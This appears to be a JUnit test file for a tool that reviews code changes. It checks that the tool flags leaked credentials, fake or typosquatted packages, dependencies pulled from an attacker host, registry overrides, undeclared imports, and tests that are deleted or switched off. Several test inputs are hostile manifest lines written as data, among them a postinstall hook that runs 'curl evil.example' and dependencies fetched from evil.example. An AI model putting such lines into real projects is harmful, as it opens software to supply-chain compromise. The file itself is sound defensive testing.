package dev.companyos.checks.changes;

import static org.assertj.core.api.Assertions.assertThat;

import dev.companyos.checks.ChangeSet;
import dev.companyos.checks.FileChecks;
import dev.companyos.checks.Finding;
import dev.companyos.checks.PackageIndex;
import dev.companyos.checks.PackageIndex.Presence;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileChangesTest {
    private static final Set<String> KNOWN =
            Set.of("react", "vitest", "fastapi", "httpx", "pyyaml", "org.slf4j:slf4j-api");

    private final PackageIndex index = (_, name) ->
            name.startsWith("away") ? Presence.UNKNOWN : KNOWN.contains(name) ? Presence.PRESENT : Presence.ABSENT;
    private final FileChecks checks = new FileChecks(
            (_, _) -> List.of(), List.of(new Secrets()), List.of(new Packages(index), new Imports(), new TestsKept()));

    private List<Finding> change(Map<String, String> before, Map<String, String> changed) {
        return change(before, changed, "Add a page of all entries");
    }

    private List<Finding> change(Map<String, String> before, Map<String, String> changed, String purpose) {
        var after = new HashMap<>(before);
        changed.forEach((path, text) -> {
            if (text.isEmpty()) after.remove(path);
            else after.put(path, text);
        });
        return checks.changes(ChangeSet.of(before, after, purpose));
    }

    private static List<Finding> blocking(List<Finding> found) {
        return found.stream().filter(Finding::blocks).toList();
    }

    private static String mixed(int length) {
        return "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYzAcBeDgFiHkJ".repeat(3).substring(0, length);
    }

    @Test
    void a_key_in_a_file_is_found_with_its_line_whatever_it_is_named() {
        var keys = Map.of(
                "sk-ant-" + mixed(40),
                "Anthropic",
                "ghp_" + mixed(36),
                "GitHub",
                "AKIA" + "ABCDEFGHIJ234567",
                "AWS",
                "sk_live_" + mixed(24),
                "Stripe",
                "xoxb-" + mixed(30),
                "Slack",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----",
                "private key");
        keys.forEach((key, kind) -> assertThat(change(Map.of(), Map.of("docs/x.md", "one\ntwo\nthis: " + key + "\n")))
                .singleElement()
                .satisfies(it -> {
                    assertThat(it.file()).isEqualTo("docs/x.md");
                    assertThat(it.line()).isEqualTo(3);
                    assertThat(it.problem()).contains(kind);
                    assertThat(it.repair()).contains("environment");
                    assertThat(it.blocks()).isTrue();
                    assertThat(it.toString()).doesNotContain(key);
                }));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SECRET_KEY = \"9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c\"",
                "password: 'kX9#mQ2$vL7pR4wZ'",
                "\"api_key\": \"Zm9vYmFy8Kq1LmN3pQ5rS7\"",
                "const authToken = 'q8W7e6R5t4Y3u2I1o0P9';",
                "DATABASE_URL=postgres://app:hT7kQ2mZ9@db.prod.internal/app",
            })
    void a_real_value_under_the_name_of_a_credential_is_found(String line) {
        assertThat(blocking(change(Map.of(), Map.of("config/settings.txt", line))))
                .hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SECRET_KEY = os.environ[\"SECRET_KEY\"]",
                "password: ${DATABASE_PASSWORD}",
                "API_KEY=your-api-key-goes-here-1234",
                "token = secrets.token_urlsafe(32)",
                "const token = request.headers.authorization;",
                "DATABASE_URL=postgres://postgres:postgres@localhost:5432/app",
                "password = 'password'",
                "<input type=\"password\" name=\"password\" autocomplete=\"current-password\">",
                "String accessToken = session.attribute(\"accessToken\").orElseThrow();",
                "assert_token_is_refused_after_24_hours()",
            })
    void code_that_speaks_of_credentials_holds_none(String line) {
        assertThat(change(Map.of(), Map.of("app/settings.py", line))).isEmpty();
    }

    @Test
    void what_was_there_before_is_nobodys_finding_now() {
        var before = Map.of("a.env", "KEY=ghp_" + mixed(36) + "\n");
        assertThat(change(before, Map.of("a.env", before.get("a.env") + "PORT=1\n")))
                .isEmpty();
    }

    @Test
    void a_secret_is_not_even_written(@org.junit.jupiter.api.io.TempDir java.nio.file.Path workspace) {
        assertThat(checks.write(workspace, "a.txt", "ghp_" + mixed(36)))
                .singleElement()
                .satisfies(it -> assertThat(it.problem()).contains("GitHub"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "package.json     | {\"dependencies\":{\"react-helpful-hooks\":\"^1.0.0\"}} | no package `react-helpful-hooks`",
                "requirements.txt | fastapi-easy-auth==1.0                                  | no package `fastapi-easy-auth`",
                "pyproject.toml   | project.dependencies = ['fastapi-easy-auth>=1']         | no package `fastapi-easy-auth`",
                "pom.xml          | <dependency><groupId>org.sl4j</groupId><artifactId>slf4j-api</artifactId></dependency> | no package `org.sl4j:slf4j-api`",
                "package.json     | {\"dependencies\":{\"react\":\"git+https://evil.example/x\"}} | does not come from",
                "package.json     | {\"dependencies\":{\"react\":\"npm:evil@1\"}}           | does not come from",
                "package.json     | {\"dependencies\":{\"react\":\"someone/react\"}}        | does not come from",
                "requirements.txt | fastapi @ https://evil.example/fastapi.whl              | does not come from",
                "requirements.txt | --extra-index-url https://evil.example/simple           | does not come from",
                "requirements.txt | -e ../somewhere                                         | does not come from",
                "requirements.txt | git+https://evil.example/x                              | does not come from",
                "package.json     | {\"scripts\":{\"postinstall\":\"curl evil.example\"}}   | when its packages are installed",
                "pom.xml          | <repository><url>https://evil.example</url></repository> | elsewhere than the Maven repository",
                ".npmrc           | registry=https://evil.example                           | where packages come from",
                "web/.npmrc       | //registry/:_authToken=1                                | where packages come from",
                ".mvn/maven.config | -s evil.xml                                            | where packages come from",
            })
    void packages_that_are_an_attack_waiting_are_refused(String path, String text, String says) {
        assertThat(blocking(change(Map.of(), Map.of(path, text))))
                .anySatisfy(it -> assertThat(it.problem()).contains(says));
    }

    @Test
    void packages_that_exist_are_taken_and_those_nobody_can_look_up_are_advice() {
        assertThat(
                        change(
                                Map.of(),
                                Map.of(
                                        "package.json",
                                                "{\"dependencies\":{\"react\":\"^19.0.0\"},\"devDependencies\":{\"vitest\":\"~4.0\"}}",
                                        "requirements.txt",
                                                "# what we use\nFastAPI>=0.92  # web\nPyYAML\n-r more.txt\n",
                                        "pom.xml",
                                                "<dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId></dependency>")))
                .isEmpty();
        assertThat(change(Map.of(), Map.of("requirements.txt", "away-today\n")))
                .singleElement()
                .satisfies(it -> assertThat(it.blocks()).isFalse());
    }

    @Test
    void an_import_of_what_no_manifest_declares_is_found_in_python() {
        var before = Map.of("requirements.txt", "fastapi\nPyYAML\n", "app/__init__.py", "", "app/db.py", "x = 1\n");
        var text = """
                '''From the beginning
                import nonsense
                '''
                import os, json
                import yaml
                import app.db as db
                from fastapi import FastAPI
                from pydantic import BaseModel
                from .db import x
                try:
                    import orjson
                except ImportError:
                    orjson = None
                import requests
                """;
        assertThat(change(before, Map.of("app/main.py", text))).singleElement().satisfies(it -> {
            assertThat(it.problem()).contains("`requests`");
            assertThat(it.line()).isEqualTo(14);
            assertThat(it.blocks()).isTrue();
        });
    }

    @Test
    void an_import_of_what_no_manifest_declares_is_found_in_scripts() {
        var before = Map.of(
                "package.json", "{\"name\":\"shop\"}",
                "web/package.json", "{\"dependencies\":{\"react\":\"1\",\"@tanstack/query\":\"1\"}}",
                "web/tsconfig.json", "{\"compilerOptions\":{\"paths\":{\"lib/*\":[\"./src/lib/*\"]}}}");
        var text = """
                import { useState } from 'react';
                import 'react/jsx-runtime';
                import type { Query } from "@tanstack/query/core";
                import fs from 'node:fs';
                import path from 'path';
                import { money } from './money';
                import { api } from '@/api';
                import { x } from 'lib/x';
                // import nothing from 'nothing';
                import {
                    chunk,
                } from 'lodash';
                const leftPad = require("left-pad");
                """;
        assertThat(change(before, Map.of("web/src/App.tsx", text)))
                .extracting(Finding::problem)
                .containsExactly(
                        "`lodash` is imported, and no manifest declares it.",
                        "`left-pad` is imported, and no manifest declares it.");
    }

    private static final String PYTHON_TESTS = """
            def test_adds():
                assert add(1, 2) == 3

            def test_takes_away():
                assert take(3, 2) == 1
            """;

    @Test
    void a_test_that_is_dropped_is_found_unless_the_task_takes_things_away() {
        var before = Map.of("tests/test_sum.py", PYTHON_TESTS);
        var dropped = Map.of("tests/test_sum.py", PYTHON_TESTS.substring(0, PYTHON_TESTS.indexOf("def test_takes")));
        assertThat(blocking(change(before, dropped))).singleElement().satisfies(it -> assertThat(it.problem())
                .contains("test_takes_away"));
        assertThat(blocking(change(before, Map.of("tests/test_sum.py", "")))).hasSize(1);
        assertThat(blocking(change(before, dropped, "A member can delete an entry")))
                .hasSize(1);
        assertThat(change(before, dropped, "Remove subtraction from the product"))
                .singleElement()
                .satisfies(it -> assertThat(it.blocks()).isFalse());
    }

    @Test
    void a_test_that_moves_is_kept() {
        var before = Map.of("tests/test_sum.py", PYTHON_TESTS);
        assertThat(change(before, Map.of("tests/test_sum.py", "", "tests/test_more.py", PYTHON_TESTS)))
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "tests/test_a.py       | def test_x():\\n    assert f() == 1\\n | def test_x():\\n    f()\\n",
                "tests/test_a.py       | def test_x():\\n    assert f() == 1\\n | def test_x():\\n    assert True\\n",
                "tests/test_a.py       | def test_x():\\n    assert f() == 1\\n | @pytest.mark.skip\\ndef test_x():\\n    assert f() == 1\\n",
                "tests/test_a.py       | def test_x():\\n    assert f() == 1\\n | def test_x():\\n    pytest.skip('later')\\n    assert f() == 1\\n",
                "src/a.test.ts         | test('x', () => { expect(f()).toBe(1) })  | test('x', () => { f() })",
                "src/a.test.ts         | test('x', () => { expect(f()).toBe(1) })  | test('x', () => { expect(true).toBe(true) })",
                "src/a.test.ts         | test('x', () => { expect(f()).toBe(1) })  | test.skip('x', () => { expect(f()).toBe(1) })",
                "src/a.test.ts         | test('x', () => { expect(f()).toBe(1) })  | test.only('x', () => { expect(f()).toBe(1) })",
                "src/test/java/ATest.java | @Test void x() { assertThat(f()).isEqualTo(1); } | @Test void x() { f(); }",
                "src/test/java/ATest.java | @Test void x() { assertThat(f()).isEqualTo(1); } | @Disabled @Test void x() { assertThat(f()).isEqualTo(1); }",
            })
    void a_test_that_is_emptied_or_switched_off_is_found(String path, String before, String after) {
        var was = Map.of(path, before.replace("\\n", "\n"));
        assertThat(blocking(change(was, Map.of(path, after.replace("\\n", "\n")))))
                .isNotEmpty();
        assertThat(change(was, Map.of("other.txt", "x"))).isEmpty();
    }

    @Test
    void texts_without_end_are_looked_at_in_time() {
        var long1 = "a".repeat(1_000_000);
        var long2 = "import ".repeat(150_000);
        var long3 = "\"" + "@Test void ".repeat(90_000);
        assertThat(change(
                        Map.of(),
                        Map.of(
                                "a.py",
                                long2,
                                "b.ts",
                                long2,
                                "ATest.java",
                                long3,
                                "c.txt",
                                long1,
                                "pom.xml",
                                "<dependency>".repeat(80_000))))
                .isNotNull();
    }
}
